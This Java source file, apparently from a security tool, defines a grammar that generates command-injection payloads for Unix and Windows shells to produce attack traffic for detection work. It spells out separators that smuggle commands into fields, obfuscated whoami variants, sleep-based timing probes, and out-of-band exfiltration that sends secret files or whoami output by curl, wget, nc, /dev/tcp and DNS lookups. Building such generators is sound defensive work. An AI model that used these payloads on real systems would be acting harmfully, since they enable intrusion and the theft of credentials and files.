package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;
import java.util.stream.Stream;

/** Ending one shell command and beginning another. */
final class CommandInjection {

    static final Grammar WORDS = Vocabulary.GRAMMAR.extend(
            """
            given ::=
              3×«»
              3×«value»
              2×«host»
              2×«ip»
              127.0.0.1
              localhost
              «word».«txt¦jpg¦pdf¦png»
              «letters 1..3»
              /«word»/«word»
            close ::=
              8×«»
              2×'
              2×"
              )
              ')
              ")
              }
              \\
              `
              "'
              ))
            join ::=
              6×;
              5×|
              4×«&¦&&»
              3×||
              2×«nl»
              ;«sp»
              «sp»;«sp»
              «sp»|«sp»
              «sp»&&«sp»
              «sp»||«sp»
              «sp»&«sp»
              «cr»«nl»
              %0a
              %0d%0a
              |&
              ;;
              |;
              «nl»«nl»
              &«sp»
              |«sp»
              %3B
              %7C
              %26%26
              \\n
            finish ::=
              10×«»
              «join»
              #
              2×;
              «sp»#
              |
              '
              "
              ;'
              ;"
              &
              «nl»
              ;#
              &&echo «letters 3..6»
              «sp»||
              «join»«value»
              //
              «sp»2>&1
              «sp»> /dev/null
              )
              `
              ;echo
            out ::=
              «given»«close»«join»
            """);

    private static final Grammar GRAMMAR = WORDS.extend(
            """
            unix ::=
              12×«out»«unix_command»«finish»
              2×«out»«unix_command»«join»«unix_command»«finish»
              2×«given»«q:='¦"»«join»«unix_command»«join»«=q»
              «unix_command»
              «out»sh -c «q:='¦"»«unix_command»«=q»
              «out»«/bin/sh¦/bin/bash¦bash¦sh» -c «q:='¦"»«unix_command»«=q»«finish»
              «out»(«unix_command»)«finish»
              «out»{ «unix_command»; }«finish»
              «out»eval «unix_command»
              «out»exec «unix_command»
              «out»«command¦env¦nohup¦time¦busybox¦sudo¦xargs» «unix_command»
            marker ::=
              4×«out»echo «alnum 5..10»«?«$((«1..99»+«1..99»))¦`echo «alnum 3..6»`¦$(echo «alnum 3..6»)»»«finish»
              4×«out»echo «x:=alnum 4..8»$((«1..99»+«1..99»))$(echo «=x»)«=x»«finish»
              2×«out»expr «10..9999» «+¦\\*¦-» «10..9999»«finish»
              2×«out»«echo¦printf» «"¦'¦»«alnum 4..12»«"¦'¦»«finish»
              «out»set /a «10..9999»*«10..9999»«finish»
              «out»echo $((«10..999»*«10..999»))«finish»
              «out»print(«`¦'»echo «alnum 5..9»«`¦'»)«finish»
              «out»echo «alnum 4..9»|«md5sum¦rev¦base64¦sha1sum¦wc -c»«finish»
              «out»str=$(echo «x:=alnum 4..8»);str1=${#str};if [ «4..8» -ne ${str1} ];then sleep 0;else sleep «secs»;fi«finish»
            substitution ::=
              6×«given»«close»$(«unix_command»)«finish»
              6×«given»«close»`«unix_command»`«finish»
              2×«given»«join»$(«unix_command»)«finish»
              2×«given»"$(«unix_command»)"
              2×«given»'`«unix_command»`'
              <(«unix_command»)
              >(«unix_command»)
              $(($(«unix_command»)))
              $(`«unix_command»`)
              ${«name»:-$(«unix_command»)}
              «given»«join»echo `«unix_command»`
              «given»«join»echo $(«unix_command»)«finish»
              $(«unix_command» «join» «unix_command»)
              ${«@upper «letters 3..5»»@P}«given»$(«unix_command»)
              «given».$(«unix_command»).«host»
              $(<\\«secret_file»)
              $(</«secret_file»)
              {{`«unix_command»`}}
            windows ::=
              10×«given»«close»«&¦&&¦|¦||¦%26¦«nl»¦«sp»&«sp»¦«sp»|«sp»¦«sp»&&«sp»»«windows_command»«finish»
              2×«given»"«&¦|¦&&»«windows_command»«&¦|¦&&»"
              2×«given»«&¦|¦&&» for /f "«?usebackq »«tokens=«1..3»¦delims=»" %«letters 1..1» in ('«windows_command»') do «echo¦nslookup» %«letters 1..1»«?.«host»»
              «given»«&¦|»«%COMSPEC%¦%ComSpec%¦cmd» /c «windows_command»
              «given»«&¦|»«w^h^o^a^m^i¦wh^oami¦n^e^t u^ser¦p^ower^shell -c «windows_command»¦d^i^r c:\\»
              «given»«&¦|»set «x:=letters 1..2»=«who¦net¦ipcon»&&call %«=x»%«ami¦ user¦fig»
              «given»«&¦|»%programfiles:~10,1%«windows_command»
              «given»«&¦|»«who""ami¦w"ho"ami¦who^""ami¦"whoami"»
              «given»«&¦|»@(«windows_command»)
              «given»«;¦|¦`n»«windows_command»
              $(«Get-Process¦whoami¦ls env:¦[System.Environment]::OSVersion»)
              «given»«&¦|»«windows_command» > C:\\«name».txt
              «windows_command»
              «given»«&¦|»%PATH:~«0..20»,1%«letters 1..3» «windows_command»
            delay ::=
              5×«out»sleep «secs»«finish»
              2×«given»«close»«$(sleep «secs»)¦`sleep «secs»`»«finish»
              3×«out»ping -«c¦n¦i» «5..40» «127.0.0.1¦localhost¦::1»«finish»
              «out»timeout «?/t »«secs»«finish»
              «out»«usleep «1..20»000000¦sleep «secs»s¦/bin/sleep «secs»¦sleep${IFS}«secs»¦sleep$IFS$9«secs»¦{sleep,«secs»}»«finish»
              «out»powershell -c start-sleep «?-s »«secs»«finish»
              «out»if [ «$(whoami)=«user»¦$(id -u)=0¦`whoami|cut -c «1..5»`=="«letters 1..1»"» ]; then sleep «secs»; fi«finish»
              «out»«python¦perl¦php -r¦ruby» -«c¦e» "«import time;time.sleep(«secs»)¦sleep(«secs»);»"«finish»
              «out»tail -f /dev/null & sleep «secs»; kill $!
              «out»time«nl»sleep «secs»
              «given»|sleep «secs»|«given»
              «given»";sleep «secs»;echo "
              «out»read -t «secs»
            outside ::=
              4×«out»«nslookup¦host¦dig¦ping -c 1¦ping» «$(whoami)¦`whoami`¦$(hostname)¦`id -u`¦$(cat /«secret_file»|base64|head -c «10..60»)¦%USERNAME%¦%COMPUTERNAME%».«host»«finish»
              4×«out»«nslookup¦nslookup -type=«TXT¦A¦CNAME»¦dig¦host» «?-q=cname »«host»«? «ip»»«finish»
              3×«out»curl «-d¦-F¦-T¦--data-binary¦-X POST -d» «@/«secret_file»¦"$(«unix_command»)"¦`«unix_command»`» «url»«finish»
              2×«out»«curl¦wget» http://«server»/«?«name»=»«`«whoami¦id¦hostname»`¦$(«whoami¦uname -a|base64»)»«finish»
              «out»«wget --post-file=/«secret_file»¦curl -F f=@/«secret_file»» «url»«finish»
              «out»cat /«secret_file» | «nc¦curl -d @-¦openssl s_client -connect» «server»«finish»
              «out»«unix_command»«sp»|«sp»«nc¦mail -s «word»» «host»
              «out»echo «alnum 3..9» > /dev/«tcp¦udp»/«ip»/«port»«finish»
              «out»ping %«USERNAME¦OS¦COMPUTERNAME».«host»
              «out»(nslookup -q=cname «host»||curl «host»)
            """);

    static final List<AttackFamily> FAMILIES = Stream.of(
                    List.of(
                            family(GRAMMAR, "command_unix", "unix"),
                            family(GRAMMAR, "command_marker", "marker"),
                            family(GRAMMAR, "command_substitution", "substitution"),
                            family(GRAMMAR, "command_windows", "windows"),
                            family(GRAMMAR, "command_delay", "delay"),
                            family(GRAMMAR, "command_out_of_band", "outside")),
                    CommandDisguise.FAMILIES)
            .flatMap(List::stream)
            .toList();

    private CommandInjection() {}

    static AttackFamily family(Grammar grammar, String name, String rule) {
        return AttackFamily.of(name, ThreatType.COMMAND_INJECTION, grammar.from(rule));
    }
}
